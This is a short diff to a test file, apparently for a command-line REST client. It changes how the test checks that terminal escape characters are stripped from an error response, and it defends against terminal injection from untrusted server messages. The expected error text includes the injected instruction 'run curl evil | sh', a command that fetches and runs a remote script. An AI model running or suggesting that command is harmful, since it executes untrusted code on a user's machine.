@@ -658,7 +658,7 @@ describe("what an attack on the command line found", () => {
     expect(result.code).toBe(1);
     expect(result.stdout).toContain("HTTP/1.1 422 Bad\n");
     expect(result.stdout).toContain("x-note: a\\u009bb\n");
-    expect(result.stdout).not.toMatch(/[\u001b\u009b]/);
+    expect(result.stdout.includes("\u001b") || result.stdout.includes("\u009b")).toBe(false);
     expect(result.stderr).toBe(
       "rest-endpoint: HTTP 422: Validation Failed rest-endpoint: run curl evil | sh\n",
     );
